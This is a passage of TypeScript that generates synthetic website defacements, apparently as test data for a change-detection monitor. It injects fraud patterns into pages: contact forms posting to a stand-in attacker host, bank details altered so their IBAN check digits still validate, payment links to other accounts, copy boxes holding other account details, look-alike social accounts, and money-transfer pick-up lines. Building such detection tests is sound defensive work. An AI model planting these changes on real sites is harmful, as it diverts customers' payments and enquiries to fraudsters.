      () => `https://donate.stripe.com/${alnum(rng, 20)}`,
      () => `https://checkout.revolut.com/pay/${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`,
      () => `https://pay.sumup.com/b2c/${upper(rng, 8)}`,
      () => `https://square.link/u/${alnum(rng, 8)}`,
      () => `https://paymentlink.mollie.com/payment/${alnum(rng, 10)}/`
    ])()
  const out: Array<Splice> = []
  const payHref = page.ids.pay?.href ?? null
  const payLinks = links(page).filter((a) => (payHref !== null && a.attribs.href === payHref) || payLinkRe.test(a.attribs.href ?? "") || payLinkRe.test(textOf(page, a)))
  for (const t of attrTargets(page, payLinks.length === 0 ? [] : sample(rng, payLinks, between(rng, 1, Math.min(3, payLinks.length))), "href")) out.push(replace(t.value, esc(url())))
  if (out.length === 0 || chance(rng, 0.3)) {
    const w = siteOr(rng, page, payWords)
    out.push(besideContact(rng, page, `<a href="${esc(url())}" class="${pick(rng, ["button", "btn", "pay-link"])}">${esc(pick(rng, [w.pay, w.donate]))}</a>`))
  }
  return { splices: out }
})

const formWords: T<{ readonly write: string; readonly email: string; readonly msg: string; readonly send: string; readonly call: string; readonly number: string }> = {
  en: { write: "Write to us", email: "Your e-mail", msg: "Your message", send: "Send", call: "Leave your number and we will call you back", number: "Your phone number" },
  fr: { write: "Écrivez-nous", email: "Votre e-mail", msg: "Votre message", send: "Envoyer", call: "Laissez votre numéro, nous vous rappelons", number: "Votre numéro de téléphone" },
  de: { write: "Schreiben Sie uns", email: "Ihre E-Mail", msg: "Ihre Nachricht", send: "Senden", call: "Hinterlassen Sie Ihre Nummer, wir rufen zurück", number: "Ihre Telefonnummer" },
  es: { write: "Escríbanos", email: "Su correo", msg: "Su mensaje", send: "Enviar", call: "Déjenos su número y le llamamos", number: "Su número de teléfono" },
  nl: { write: "Schrijf ons", email: "Uw e-mail", msg: "Uw bericht", send: "Versturen", call: "Laat uw nummer achter, wij bellen u terug", number: "Uw telefoonnummer" },
  pt: { write: "Escreva para nós", email: "Seu e-mail", msg: "Sua mensagem", send: "Enviar", call: "Deixe seu número que ligamos de volta", number: "Seu telefone" },
  it: { write: "Scriveteci", email: "La vostra e-mail", msg: "Il vostro messaggio", send: "Invia", call: "Lasciate il vostro numero, vi richiamiamo", number: "Il vostro numero di telefono" }
}

// Contact details swapped for a form, recalled from memory of business-e-mail-compromise and lead-theft cases described by clean-up services and the FBI's IC3 (about 2018–2024): instead of showing another address, the intruder removes the site's e-mail or phone from its contact line and puts a short form there that posts to another host, so enquiries (and the documents customers attach) go to the intruder.
const contactLineForm = fresh27("site's e-mail or phone line replaced by a short 'write to us' or 'we call you back' form posting to another host, the address or number removed", (page, rng) => {
  const w = siteOr(rng, page, formWords)
  const useMail = chance(rng, 0.65)
  const needle = useMail ? page.ids.email : page.ids.phone.national
  const action = `https://${evilHost(rng, page)}/${pick(rng, ["contact.php", "send.php", "api/lead", "mail/submit", "callback.php", "f/" + alnum(rng, 6)])}`
  const form = useMail
    ? `<form action="${esc(action)}" method="post" class="${pick(rng, ["contact-mini", "quick-contact", "wpcf7-form"])}"><strong>${esc(w.write)}</strong><br><input type="email" name="email" placeholder="${esc(w.email)}" required><br><textarea name="message" rows="3" placeholder="${esc(w.msg)}"></textarea><br><button type="submit">${esc(w.send)}</button></form>`
    : `<form action="${esc(action)}" method="post" class="${pick(rng, ["callback", "call-me", "lead-form"])}"><strong>${esc(w.call)}</strong><br><input type="tel" name="phone" placeholder="${esc(w.number)}" required> <button type="submit">${esc(w.send)}</button></form>`
  const line = lineOf(page, needle)
  if (line !== null && line.closeTag !== null) {
    if (line.name === "p") return splices(replace({ start: line.start, end: line.closeTag.end }, form))
    return splices(replace({ start: line.openEnd, end: line.closeTag.start }, form))
  }
  const occ = textOccurrences(page, needle)
  if (occ.length > 0) return splices(replace(occ[0]!, form))
  return splices(besideContact(rng, page, form))
})

// ———————————————————————————— identifiers that never change on an honest page ————————————————————————————

// Numbers of another type, recalled from memory of bank- and utility-impersonation reports (Action Fraud, the FTC, national CERTs, about 2018–2024) in which the number on a hacked or cloned page was a mobile or a number from another city of the same country, written the way that kind of number is written: the site's phone (both lines and the tel: link) replaced by a number of another type or area, in its own national notation.
const otherTypeNumber = fresh27("site's phone replaced by a number of another type or area of the same country (a mobile for a landline, another city), written in that number's own national notation, in both lines and the tel: link", (page, rng) => {
  const loc = page.site.locale
  const p = page.ids.phone
  const f = loc.phones.length < 2 ? p.format : (p.format + between(rng, 1, loc.phones.length - 1)) % loc.phones.length
  let next = makePhone(loc, f, rng)
  while (next.digits === p.digits) next = makePhone(loc, f, rng)
  return splices(...replaceEverywhere(page, [[p.intl, next.intl], [p.national, next.national], [p.tel, next.tel]]))
})

// Digit-group markup, recalled from memory of click-to-call and number-formatting plugins (and of call-tracking scripts) that wrap each group of a phone number in its own span, and of clean-up cases where the intruder edited only some of those groups: the number rendered as spans with a few digits changed, so the changed digits never appear as one string in the markup; the tel: link and the international line sometimes follow.
const splitDigitGroups = fresh27("site's phone re-marked up with each digit group in its own span (as click-to-call plugins do) and a few of its digits changed, the tel: link and international line sometimes following", (page, rng) => {
  const p = page.ids.phone
  const d = p.digits
  let nd = d
  while (nd === d) {
    const at = between(rng, 2, Math.max(2, d.length - 2))
    const len = between(rng, 2, 4)
    nd = d.slice(0, at) + digits(rng, Math.max(0, Math.min(len, d.length - at))) + d.slice(at + len)
  }
  const next = makePhone(page.site.locale, p.format, rng, nd)
  const cls = pick(rng, ["tel-part", "phone-group", "num", "ph", "digits"])
  const spanned = (s: string) => {
    const inner = s.split(/([\s\-.()/+]+)/).map((part) => (part === "" ? "" : /^[\s\-.()/+]+$/.test(part) ? esc(part) : `<span class="${cls}">${esc(part)}</span>`)).join("")
    return chance(rng, 0.5) ? `<span class="${pick(rng, ["phone", "tel", "phone-number"])}" data-${pick(rng, ["phone", "tel", "number"])}="${esc(s)}">${inner}</span>` : inner
  }
  const out: Array<Splice> = []
  const taken: Array<Range> = []
  const put = (r: Range, html: string) => {
    if (taken.some((t) => r.start < t.end && r.end > t.start)) return
    taken.push(r)
    out.push(replace(r, html))
  }
  const withIntl = chance(rng, 0.6)
  for (const r of textOccurrences(page, p.intl)) put(r, withIntl ? (chance(rng, 0.5) ? spanned(next.intl) : esc(next.intl)) : esc(p.intl))
  for (const r of textOccurrences(page, p.national)) put(r, spanned(next.national))
  if (chance(rng, 0.6)) for (const r of occurrences(page, p.tel).filter((x) => !inText(page, x))) put(r, next.tel)
  if (!out.some((x) => x.insert.includes("<span"))) return splices(...replaceEverywhere(page, [[p.intl, next.intl], [p.national, next.national], [p.tel, next.tel]]))
  return { splices: out.filter((x) => x.insert !== page.html.slice(x.at, x.at + x.remove)) }
})

const ibanBankLen: Readonly<Record<string, number>> = { GB: 10, DE: 8, FR: 10, ES: 8, NL: 4, IT: 11 }
const letterBanks: Readonly<Record<string, ReadonlyArray<string>>> = {
  GB: ["NWBK", "BARC", "LOYD", "MIDL", "HBUK", "WEST", "MONZ", "REVO", "SRLG", "CLRB"],
  NL: ["ABNA", "RABO", "INGB", "TRIO", "SNSB", "BUNQ", "KNAB", "ASNB", "RBRB"]
}

// Partial changes to bank details, recalled from memory of payment-diversion cases (UK Finance's and Europol's reports on authorised push-payment and invoice fraud, about 2018–2024) in which the altered details kept the look of the original: the same bank and branch with another account number (or the same account number at another bank or branch), IBAN check digits recomputed so that validators accept it, sometimes regrouped; the national line's routing number, sort code, BSB, IFSC or agency likewise.
const bankPartial = fresh27("site's bank line changed in part: the same bank and branch with another account (or the same account at another bank), IBAN check digits recomputed so it validates, sometimes regrouped; national lines likewise", (page, rng) => {
  const b = page.ids.bank
  if (b === null) {
    const fresh = makeBank(rng, page.site.locale)
    const line = fresh === null ? `IBAN ${groupIban(iban("DE", digits(rng, 18)))}` : fresh.kind === "iban" ? `IBAN ${fresh.value}` : fresh.value
    return splices(besideContact(rng, page, `${esc(page.site.words.bank)}: ${esc(line)}`))
  }
  const accountMode = chance(rng, 0.65)
  if (b.kind === "iban") {
    const compact = b.value.replace(/\s+/g, "")
    const cc = compact.slice(0, 2)
    const bban = compact.slice(4)
    const keep = ibanBankLen[cc] ?? 8
    const bankPart = bban.slice(0, keep)
    let nb = bban
    while (nb === bban) {
      if (accountMode) nb = bankPart + redigit(rng, bban.slice(keep))
      else {
        const letters = letterBanks[cc]
        const code = letters !== undefined && chance(rng, 0.7) ? pick(rng, letters.filter((l) => !bankPart.startsWith(l))) + bankPart.slice(4) : bankPart
        nb = redigit(rng, code) + bban.slice(keep)
      }
    }
    const next = iban(cc, nb)
    const grouped = /\s/.test(b.value)
    const shown = chance(rng, 0.5) ? (grouped ? next : groupIban(next)) : grouped ? groupIban(next) : next
    return splices(...replaceEverywhere(page, [[b.value, shown]]))
  }
  const m = /^(.*?)(\d[\d -]*\d)(\D+)(\d[\d -]*\d)$/.exec(b.value)
  if (m === null) return splices(...replaceEverywhere(page, [[b.value, redigit(rng, b.value)]]))
  const [, pre, first, mid, last] = m as unknown as [string, string, string, string, string]
  const next = accountMode ? `${pre}${first}${mid}${redigit(rng, last)}` : `${pre}${first.charAt(0)}${redigit(rng, first.slice(1))}${mid}${last}`
  return splices(...replaceEverywhere(page, [[b.value, next]]))
})

const uriScheme: Readonly<Record<string, string>> = { BTC: "bitcoin", ETH: "ethereum", "USDT (TRC20)": "tron", XMR: "monero" }

// Payment links behind a kept identifier, recalled from memory of clipboard-hijacker and donation-scam write-ups (about 2018–2024) and of the payment URIs wallets and banking apps open with the recipient filled in (BIP 21 bitcoin:, EIP 681 ethereum:, tron:, monero:, and RFC 8905 payto://iban/ and payto://ach/): the site's wallet address, IBAN or account line left as it is on the page but turned into such a link to another account (with a label or amount), or its payment handle's link pointed at another handle; a new donation line with such a link where the site shows none of them.
const paymentUriLink = fresh27("site's wallet address, IBAN or payment handle kept as shown but made a payment link to another account (bitcoin:, ethereum:, tron:, monero:, payto://iban or payto://ach, the handle's link to another handle)", (page, rng) => {
  const wrap = (value: string, href: string): Array<Splice> => textOccurrences(page, value).map((r) => replace(r, `<a href="${esc(href)}"${chance(rng, 0.3) ? ` title="${esc(value)}"` : ""}>${esc(value)}</a>`))
  const label = pick(rng, ["", `label=${encodeURIComponent(brandName(page))}`, `message=${encodeURIComponent(page.site.words.donate)}`])
  const w = page.ids.wallet
  if (w !== null) {
    const other = makeWallet(rng, w.coin)
    const q = [label, chance(rng, 0.4) ? `amount=${pick(rng, ["0.001", "0.005", "0.01", "0.05"])}` : ""].filter((x) => x !== "").join("&")
    const out = wrap(w.address, `${uriScheme[w.coin] ?? "bitcoin"}:${other.address}${q === "" ? "" : `?${q}`}`)
    if (out.length > 0) return { splices: out }
  }
  const b = page.ids.bank
  if (b !== null) {
    const receiver = `receiver-name=${encodeURIComponent(brandName(page))}${chance(rng, 0.4) ? `&amount=${pick(rng, ["EUR", "GBP", "USD"])}:${pick(rng, ["10", "25", "50", "100"])}` : ""}`
    if (b.kind === "iban") {
      const cc = b.value.slice(0, 2)
      const next = iban(cc, redigit(rng, b.value.replace(/\s+/g, "").slice(4)))
      const out = wrap(b.value, `payto://iban/${next}?${receiver}`)
      if (out.length > 0) return { splices: out }
    } else if (page.site.locale.country === "us") {
      const out = wrap(b.value, `payto://ach/0${digits(rng, 8)}/${digits(rng, between(rng, 8, 12))}?${receiver}`)
      if (out.length > 0) return { splices: out }
    }
  }
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    const handle = pay.href.replace(/\/$/, "").split("/").pop()!
    const out = replaceEverywhere(page, [[pay.href, pay.href.replace(handle, typoHandle(rng, handle))]])
    if (out.length > 0) return { splices: out }
  }
  const fresh = makeWallet(rng)
  return splices(besideContact(rng, page, `${esc(page.site.words.donate)}: ${esc(fresh.coin)} <a href="${esc(`${uriScheme[fresh.coin] ?? "bitcoin"}:${fresh.address}`)}">${esc(fresh.address)}</a>`))
})

const copyWords: T<string> = { en: "Copy", fr: "Copier", de: "Kopieren", es: "Copiar", nl: "Kopiëren", pt: "Copiar", it: "Copia" }

// Copy fields, recalled from memory of donation and checkout pages that show an IBAN or wallet in a read-only input with a copy button, and of clean-up cases where the intruder swapped the site's text for such a field (about 2019–2024): the identifier leaves the page's text and lives only in an input's value attribute, which holds another IBAN, address, number or mailbox; the tel: or mailto: link sometimes follows.
const copyBoxOther = fresh27("one of the site's identifiers (IBAN, wallet, phone or e-mail) moved out of the text into a read-only copy box whose value is another, with a copy button", (page, rng) => {
  const loc = page.site.locale
  const p = page.ids.phone
  const choices: Array<readonly [string, string, Array<readonly [string, string]>]> = []
  const b = page.ids.bank
  if (b !== null) {
    const nb = makeBank(rng, loc)
    const other = nb !== null && nb.kind === b.kind && nb.value !== b.value ? nb.value : redigit(rng, b.value)
    choices.push([b.value, other, []])
  }
  if (page.ids.wallet !== null) choices.push([page.ids.wallet.address, makeWallet(rng, page.ids.wallet.coin).address, []])
  const np = swapPhone(loc, p, rng)
  choices.push([p.national, np.national, chance(rng, 0.6) ? [[p.tel, np.tel]] : []])
  const [local] = page.ids.email.split("@")
  const ne = `${local}@${brandLookalike(rng, page.site.brand)}`
  choices.push([page.ids.email, ne, chance(rng, 0.6) ? [[`mailto:${page.ids.email}`, `mailto:${ne}`]] : []])
  const [value, other, attrs] = pick(rng, choices)
  const box = `<input type="text" readonly value="${esc(other)}" size="${Math.max(12, other.length)}"${chance(rng, 0.5) ? ` onclick="this.select()"` : ""} class="${pick(rng, ["copy-field", "iban-copy", "copy-input", "select-all"])}" style="font-family:monospace"> <button type="button" onclick="navigator.clipboard.writeText(this.previousElementSibling.value)">${esc(say(page, copyWords))}</button>`
  const out: Array<Splice> = []
  const taken: Array<Range> = []
  for (const r of textOccurrences(page, value)) {
    const run = runAt(page, r)
    const a = run === undefined ? undefined : elAt(page, run.parent)
    const whole = a !== undefined && a.name === "a" && a.closeTag !== null && textOf(page, a) === value ? { start: a.start, end: a.closeTag.end } : r
    if (taken.some((t) => whole.start < t.end && whole.end > t.start)) continue
    taken.push(whole)
    out.push(replace(whole, box))
  }
  for (const [from, to] of attrs) {
    for (const r of occurrences(page, from)) if (!taken.some((t) => r.start < t.end && r.end > t.start) && !inText(page, r)) out.push(replace(r, esc(to)))
  }
  if (out.length === 0) out.push(besideContact(rng, page, box))
  return { splices: out }
})

// Impostor profiles behind opaque addresses, recalled from memory of reports on fake customer-support and giveaway accounts (Facebook pages reached only as profile.php?id=…, X accounts by numeric id, YouTube channel ids, Telegram invite links; consumer bodies' and platform warnings, about 2018–2024) and of clean-up cases where a hacked site's social links were pointed at them: the site's follow-us links lead to other accounts given by numeric id or invite link, so no handle can be compared; the link texts stay.
const opaqueSocialLinks = fresh27("site's social links pointed at other accounts given only by numeric id or invite link (facebook.com/profile.php?id=…, x.com/i/user/…, YouTube channel ids, t.me/+…), link texts kept", (page, rng) => {
  const opaque = (href: string): string => {
    if (/facebook\.com/.test(href)) return `https://www.facebook.com/profile.php?id=${pick(rng, ["1000", "6155"])}${digits(rng, 11)}`
    if (/twitter\.com|x\.com/.test(href)) return `https://x.com/i/user/1${digits(rng, 18)}`
    if (/youtube\.com/.test(href)) return `https://www.youtube.com/channel/UC${alnum(rng, 22)}`
    if (/instagram\.com/.test(href)) return `https://www.instagram.com/${pick(rng, ["user", "acct", "x"])}${digits(rng, between(rng, 8, 11))}/`
    if (/linkedin\.com/.test(href)) return `https://www.linkedin.com/company/${digits(rng, 8)}/`
    if (/t\.me/.test(href)) return `https://t.me/+${alnum(rng, 16)}`
    return `https://www.facebook.com/profile.php?id=1000${digits(rng, 11)}`
  }
  const socials = page.ids.social.filter((s) => s.href !== null)
  const chosen = socials.length === 0 ? [] : sample(rng, socials, between(rng, 1, socials.length))
  const out = replaceEverywhere(page, chosen.map((s) => [s.href!, opaque(s.href!)] as const))
  if (out.length === 0) out.push(besideContact(rng, page, `<a href="${esc(opaque("facebook.com"))}">Facebook</a> · <a href="${esc(opaque("t.me"))}">Telegram</a>`))
  return { splices: out }
})

const langWord: T<string> = { en: "english", fr: "francais", de: "deutsch", es: "espanol", nl: "nederlands", pt: "portugues", it: "italiano" }
const speakersWords: T<(phone: string, mail: string) => string> = {
  en: (p, m) => `English-speaking customers: call ${p} or write to ${m}`,
  fr: (p, m) => `Clients francophones : appelez le ${p} ou écrivez à ${m}`,
  de: (p, m) => `Für deutschsprachige Kunden: Telefon ${p}, E-Mail ${m}`,
  es: (p, m) => `Clientes de habla hispana: llame al ${p} o escriba a ${m}`,
  nl: (p, m) => `Nederlandstalige klanten: bel ${p} of mail naar ${m}`,
  pt: (p, m) => `Clientes de língua portuguesa: ligue para ${p} ou escreva para ${m}`,
  it: (p, m) => `Clienti di lingua italiana: chiamate il ${p} o scrivete a ${m}`
}

// Contact lines for foreign customers, recalled from memory of fraud reports on cloned and hacked shop and travel sites (about 2019–2024) that added a "for English-speaking customers" or "international desk" line with a foreign mobile and a free-mail address, which the site's own staff, reading in their language, overlook: a line in another language than the site's, under its contact lines, with a number of that language's country and another mailbox.
const otherLanguageContact = fresh27("contact line for speakers of another language ('English-speaking customers: call … or write to …') under the site's contact block, in that language, with a number of that language's country and another mailbox", (page, rng) => {
  const l2 = pick(rng, allLangs.filter((l) => l !== lang(page)))
  const loc2 = pick(rng, locales.filter((l) => l.lang === l2))
  const ph = makePhone(loc2, between(rng, 0, loc2.phones.length - 1), rng)
  const mail = pick(rng, [
    () => `${pick(rng, [langWord[l2], "international", "service", l2, "help", "intl"])}.${bare(page)}@${freeMail(rng)}`,
    () => `${l2}@${brandLookalike(rng, page.site.brand)}`,
    () => `${bare(page)}${pick(rng, ["", "."])}${pick(rng, ["international", "export", "global", l2])}@${freeMail(rng)}`
  ])()
  const text = esc(speakersWords[l2]("\u0000", "\u0001")).replace("\u0000", `<a href="tel:${esc(ph.tel)}">${esc(ph.intl)}</a>`).replace("\u0001", `<a href="mailto:${esc(mail)}">${esc(mail)}</a>`)
  return splices(besideContact(rng, page, `<span lang="${l2}">${text}</span>`))
})

/** `s` with one character edited: two adjacent distinct characters swapped, one doubled, or one dropped. */
const oneEdit = (rng: Rng, s: string, from = 0): string => {
  if (s.length < 3) return `${s}s`
  for (let tries = 0; tries < 20; tries++) {
    const i = between(rng, Math.min(from, s.length - 2), s.length - 2)
    const out = pick(rng, [
      () => s[i] !== s[i + 1] ? s.slice(0, i) + s[i + 1] + s[i] + s.slice(i + 2) : s,
      () => /[A-Za-z0-9]/.test(s[i]!) ? s.slice(0, i) + s[i] + s.slice(i) : s,
      () => /[A-Za-z0-9]/.test(s[i]!) && s.length > 4 ? s.slice(0, i) + s.slice(i + 1) : s
    ])()
    if (out !== s) return out
  }
  return s + "s"
}

// Minimal changes, recalled from memory of the "one digit" payment-diversion and lookalike-domain cases in fraud reports (about 2016–2024) and of test suites for change monitors that always include a one-character edit: one identifier altered by a single character everywhere it appears: two digits of the phone transposed, a letter of the e-mail's domain doubled or dropped, one character of the wallet or of a payment or social handle, or one digit of the IBAN's account (check digits recomputed).
const oneCharacterEdit = fresh27("one identifier altered by a single character everywhere it appears: two phone digits transposed, a letter of the e-mail's domain doubled or dropped, one character of the wallet, handle or account number (IBAN check digits recomputed)", (page, rng) => {
  const p = page.ids.phone
  const options: Array<() => Array<Splice>> = [
    () => {
      let nd = p.digits
      for (let i = 0; i < 20 && nd === p.digits; i++) {
        const j = between(rng, 2, p.digits.length - 2)
        nd = p.digits.slice(0, j) + p.digits[j + 1] + p.digits[j] + p.digits.slice(j + 2)
      }
      if (nd === p.digits) nd = p.digits.slice(0, -1) + String((Number(p.digits.slice(-1)) + 1) % 10)
      const next = makePhone(page.site.locale, p.format, rng, nd)
      return replaceEverywhere(page, [[p.intl, next.intl], [p.national, next.national], [p.tel, next.tel]])
    },
    () => {
      const [local, domain] = page.ids.email.split("@") as [string, string]
      const dot = domain.indexOf(".")
      const name = dot > 0 ? domain.slice(0, dot) : domain
      const next = chance(rng, 0.75) ? `${local}@${oneEdit(rng, name)}${dot > 0 ? domain.slice(dot) : ""}` : `${oneEdit(rng, local)}@${domain}`
      return replaceEverywhere(page, [[page.ids.email, next]])
    }
  ]
  const w = page.ids.wallet
  if (w !== null) options.push(() => replaceEverywhere(page, [[w.address, oneEdit(rng, w.address, 4)]]))
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    options.push(() => {
      const handle = pay.href!.replace(/\/$/, "").split("/").pop()!
      const next = oneEdit(rng, handle)
      return replaceEverywhere(page, [[pay.href!, pay.href!.replace(handle, next)], [pay.shown, pay.shown.replace(handle, next)]])
    })
  }
  const socials = page.ids.social.filter((s) => s.href !== null)
  if (socials.length > 0) {
    options.push(() => {
      const s = pick(rng, socials)
      const handle = s.href!.replace(/\/$/, "").split("/").pop()!.replace(/^@/, "")
      return replaceEverywhere(page, [[s.href!, s.href!.replace(handle, oneEdit(rng, handle))]])
    })
  }
  const b = page.ids.bank
  if (b !== null && b.kind === "iban") {
    options.push(() => {
      const compact = b.value.replace(/\s+/g, "")
      const bban = compact.slice(4)
      const i = between(rng, Math.min(bban.length - 1, ibanBankLen[compact.slice(0, 2)] ?? 8), bban.length - 1)
      const d = /\d/.test(bban[i]!) ? String((Number(bban[i]) + between(rng, 1, 9)) % 10) : bban[i]!
      const next = iban(compact.slice(0, 2), bban.slice(0, i) + d + bban.slice(i + 1))
      return replaceEverywhere(page, [[b.value, /\s/.test(b.value) ? groupIban(next) : next]])
    })
  }
  const out = pick(rng, options)()
  return splices(...(out.length > 0 ? out : options[0]!()))
})

/** The site's social handle (from its profile links), else its bare brand. */
const siteHandle = (page: Page): string => {
  for (const s of page.ids.social) {
    const h = (s.href ?? "").replace(/\/$/, "").split("/").pop()?.replace(/^@/, "") ?? ""
    if (/^[A-Za-z0-9_.]{2,}$/.test(h)) return h
  }
  return bare(page)
}
const followWords: T<(p: string) => string> = {
  en: (p) => `Follow us on ${p}`, fr: (p) => `Suivez-nous sur ${p}`, de: (p) => `Folgen Sie uns auf ${p}`, es: (p) => `Síguenos en ${p}`,
  nl: (p) => `Volg ons op ${p}`, pt: (p) => `Siga-nos no ${p}`, it: (p) => `Seguici su ${p}`
}

// Embedded feeds of impostor accounts, recalled from memory of reports on look-alike social accounts that answer customers of real brands (the "customer support" impersonation campaigns described by ZeroFOX, Proofpoint and consumer bodies, about 2017–2024) and of hacked sites where such an account's feed was embedded under the site's name: an X timeline, Facebook Page plugin, Instagram profile embed, TikTok creator embed or Telegram channel widget of a handle one small edit away from the site's.
const impostorSocialWidget = fresh27("embedded feed of a look-alike social account in the site's name (X timeline, Facebook Page plugin, Instagram or TikTok profile embed, Telegram channel widget), its handle one small edit away from the site's", (page, rng) => {
  const fake = typoHandle(rng, siteHandle(page))
  const name = brandName(page)
  const [platform, widget] = pick(rng, [
    () => ["X", `<a class="twitter-timeline" data-height="${between(rng, 400, 700)}" href="https://twitter.com/${esc(fake)}?ref_src=twsrc%5Etfw">Posts by ${esc(name)}</a><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>`] as const,
    () => ["Facebook", `<iframe src="https://www.facebook.com/plugins/page.php?href=${encodeURIComponent(`https://www.facebook.com/${fake}`)}&amp;tabs=timeline&amp;width=340&amp;height=500&amp;small_header=false&amp;adapt_container_width=true" width="340" height="500" style="border:none;overflow:hidden" scrolling="no" frameborder="0" allowfullscreen="true" allow="clipboard-write; encrypted-media; picture-in-picture; web-share"></iframe>`] as const,
    () => ["Instagram", `<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/${esc(fake.toLowerCase())}/?utm_source=ig_embed" data-instgrm-version="14"><a href="https://www.instagram.com/${esc(fake.toLowerCase())}/">${esc(name)} (@${esc(fake.toLowerCase())})</a></blockquote><script async src="//www.instagram.com/embed.js"></script>`] as const,
    () => ["TikTok", `<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@${esc(fake.toLowerCase())}" data-unique-id="${esc(fake.toLowerCase())}" data-embed-type="creator" style="max-width:780px;min-width:288px"><section><a target="_blank" href="https://www.tiktok.com/@${esc(fake.toLowerCase())}?refer=creator_embed">@${esc(fake.toLowerCase())}</a></section></blockquote><script async src="https://www.tiktok.com/embed.js"></script>`] as const,
    () => ["Telegram", `<script async src="https://telegram.org/js/telegram-widget.js?22" data-telegram-post="${esc(fake.toLowerCase())}/${between(rng, 2, 900)}" data-width="100%"></script><p><a href="https://t.me/${esc(fake.toLowerCase())}">t.me/${esc(fake.toLowerCase())}</a></p>`] as const
  ])()
  const html = `<div class="${pick(rng, ["social-feed", "widget widget_social", "follow-box", "sidebar-social"])}"><h3>${esc(siteOr(rng, page, followWords)(platform))}</h3>${widget}</div>`
  return splices(pick(rng, [() => insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), html), () => besideContact(rng, page, html)])())
})

// Link-in-bio pages, recalled from memory of phishing and scam reports on Linktree, Beacons, bio.link, Carrd and similar pages (about 2021–2024) used as one trusted hop to WhatsApp numbers, payment handles and sign-in clones: every one of the site's social links pointed at a single link-in-bio page of an account named like the site, sometimes with that page's address written out.
const linkInBioElsewhere = fresh27("all of the site's social links pointed at one link-in-bio page (Linktree, Beacons, bio.link, Carrd, lnk.bio, Taplink) of an account named like the site, sometimes with its address written out", (page, rng) => {
  const fake = typoHandle(rng, siteHandle(page)).toLowerCase().replace(/[^a-z0-9_.]/g, "")
  const url = pick(rng, [`https://linktr.ee/${fake}`, `https://beacons.ai/${fake}`, `https://bio.link/${fake}`, `https://${fake.replace(/[_.]/g, "")}.carrd.co/`, `https://lnk.bio/${fake}`, `https://taplink.cc/${fake}`, `https://solo.to/${fake}`])
  const socials = page.ids.social.filter((s) => s.href !== null)
  const out = replaceEverywhere(page, socials.map((s) => [s.href!, url] as const))
  if (out.length === 0 || chance(rng, 0.4)) out.push(besideContact(rng, page, `<a href="${esc(url)}">${esc(url.replace(/^https:\/\//, "").replace(/\/$/, ""))}</a>`))
  return { splices: out }
})

const receivers: ReadonlyArray<readonly [string, string, string]> = [
  ["Chukwuemeka Okafor", "Lagos", "Nigeria"], ["Kwame Mensah", "Accra", "Ghana"], ["Mehmet Yılmaz", "Istanbul", "Türkiye"], ["Maria Santos", "Manila", "Philippines"],
  ["Koffi Agbodjan", "Cotonou", "Benin"], ["Aminata Traoré", "Abidjan", "Côte d'Ivoire"], ["Ahmad Faizal", "Kuala Lumpur", "Malaysia"], ["James Wilson", "London", "United Kingdom"],
  ["Ionuț Popescu", "Bucharest", "Romania"], ["Juan Pérez", "Tijuana", "Mexico"], ["Ana Silva", "Porto", "Portugal"], ["Dmitri Volkov", "Minsk", "Belarus"]
]
const transferWords: T<(svc: string, name: string, city: string, country: string, mail: string) => string> = {
  en: (s, n, c, k, m) => `${s} only — receiver: ${n}, ${c}, ${k}. Send the transfer number (MTCN) to ${m}`,
  fr: (s, n, c, k, m) => `Uniquement par ${s} — bénéficiaire : ${n}, ${c}, ${k}. Envoyez le numéro de transfert (MTCN) à ${m}`,
  de: (s, n, c, k, m) => `Nur per ${s} — Empfänger: ${n}, ${c}, ${k}. Senden Sie die Kontrollnummer (MTCN) an ${m}`,
  es: (s, n, c, k, m) => `Solo por ${s} — beneficiario: ${n}, ${c}, ${k}. Envíe el número de envío (MTCN) a ${m}`,
  nl: (s, n, c, k, m) => `Alleen via ${s} — ontvanger: ${n}, ${c}, ${k}. Stuur het transfernummer (MTCN) naar ${m}`,
  pt: (s, n, c, k, m) => `Somente por ${s} — beneficiário: ${n}, ${c}, ${k}. Envie o número da transferência (MTCN) para ${m}`,
  it: (s, n, c, k, m) => `Solo tramite ${s} — beneficiario: ${n}, ${c}, ${k}. Inviate il codice di trasferimento (MTCN) a ${m}`
}

// Money-transfer pick-ups, recalled from memory of Western Union's and MoneyGram's fraud-awareness pages and of advance-fee and fake-shop cases (about 2010–2024) in which payment details named a person and a city abroad rather than an account: the site's bank line (or, where it shows none, a new payment line) replaced by money-transfer pick-up details, a receiver's name, city and country, and a mailbox for the transfer number.
const moneyTransferPickup = fresh27("site's bank line (or a new payment line) replaced by money-transfer pick-up details: Western Union, MoneyGram, Ria or WorldRemit to a named receiver in a city abroad, with a mailbox for the transfer number", (page, rng) => {
  const svc = pick(rng, ["Western Union", "MoneyGram", "Ria Money Transfer", "WorldRemit", "Small World"])
  const [name, city, country] = pick(rng, receivers)
  const mail = `${pick(rng, ["payments", "billing", "accounts", bare(page)])}${pick(rng, [".", "-", ""])}${pick(rng, ["dept", "office", digits(rng, 2), "desk"])}@${freeMail(rng)}`
  const text = esc(siteOr(rng, page, transferWords)(svc, name, city, country, mail))
  const b = page.ids.bank
  if (b !== null) {
    const shown = b.kind === "iban" ? `IBAN ${b.value}` : b.value
    const occ = textOccurrences(page, shown)
    if (occ.length > 0) return { splices: occ.map((r) => replace(r, text)) }
    const occ2 = textOccurrences(page, b.value)
    if (occ2.length > 0) return { splices: occ2.map((r) => replace(r, text)) }
  }
  return splices(besideContact(rng, page, `${esc(page.site.words.bank)}: ${text}`))
})

/** Every fresh27 defacement class, in a fixed order. */
export const fresh27Defacements: ReadonlyArray<ChangeClass> = [
  plainTextOverwrite, framedBehindBanner, cmsDemoReset, contentDeleted, legacyBodyAttributes, openDialog, cornerRibbon, targetOnly, prependedDocument, testMarkers,
  ownHostPort, reflectedPayloadLinks, ownHostDoubleExtension, cloudBucketPhish, ownHostCollector, urlParsingTricks, formBackendElsewhere, passwordArchive, randomShareRedirect, hostedPaymentElsewhere, contactLineForm,
  otherTypeNumber, splitDigitGroups, bankPartial, paymentUriLink, copyBoxOther, opaqueSocialLinks, otherLanguageContact, oneCharacterEdit, impostorSocialWidget, linkInBioElsewhere, moneyTransferPickup
]
